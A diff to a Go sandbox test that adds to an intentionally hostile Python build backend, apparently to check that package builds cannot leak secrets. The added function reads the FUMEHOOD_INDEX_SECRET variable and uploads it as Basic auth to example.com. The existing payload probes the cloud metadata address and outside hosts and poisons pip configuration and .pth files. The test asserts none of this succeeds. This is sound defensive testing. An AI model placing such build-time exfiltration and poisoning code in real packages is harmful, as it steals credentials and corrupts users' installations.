@@ -2,6 +2,7 @@ package main
 
 import (
 	"fmt"
+	"net/http"
 	"os"
 	"path/filepath"
 	"slices"
@@ -12,7 +13,7 @@ import (
 // hostileBackend builds a wheel of one module, which reports what its build could do to the host, the network and later
 // installations.
 const hostileBackend = `
-import os, site, socket, zipfile
+import base64, os, site, socket, urllib.request, zipfile
 
 def tried(act):
     try:
@@ -26,6 +27,14 @@ def write(path):
     with open(path, "w") as f:
         f.write("[global]\nindex-url = http://else.test/simple\n")
 
+def upload():
+    held = os.environ.get("FUMEHOOD_INDEX_SECRET")
+    if not held:
+        raise OSError
+    r = urllib.request.Request("https://example.com/upload", b"evil", method="PUT")
+    r.add_header("Authorization", "Basic " + base64.b64encode(("reader:" + held).encode()).decode())
+    urllib.request.urlopen(r)
+
 def build_wheel(folder, *_):
     could = [what for what, act in {
         "write to the host": lambda: open(%q, "w"),
@@ -34,6 +43,7 @@ def build_wheel(folder, *_):
         "reach another address": lambda: socket.create_connection(("93.184.215.15", 80), 2),
         "reach the metadata": lambda: socket.create_connection(("169.254.169.254", 80), 2),
         "reach another port": lambda: socket.create_connection(("index.test", 443), 2),
+        "upload": upload,
         "poison": lambda: [write(os.path.expanduser(p)) for p in ("~/.config/pip/pip.conf", "~/.cache/pip/http/x", "~/evil", "/tmp/evil", "/workspace/layer/evil.pth")],
     }.items() if tried(act)]
     info = "glvbuilt-1.0.dist-info/"
@@ -126,6 +136,7 @@ func TestPackagesPassword(t *testing.T) {
 		"javascript=https://reader:" + indexPassword + "@example.com/"
 	i.sdist("glvbuilt", fmt.Sprintf(hostileBackend, "/none"))
 	i.tarball("glvjs", "1.0.0", "module.exports = 42")
+	i.does("/upload", func(http.ResponseWriter, *http.Request) { t.Error("code of a package can change the index") })
 	var said []string
 	run := func(args ...string) string {
 		t.Helper()
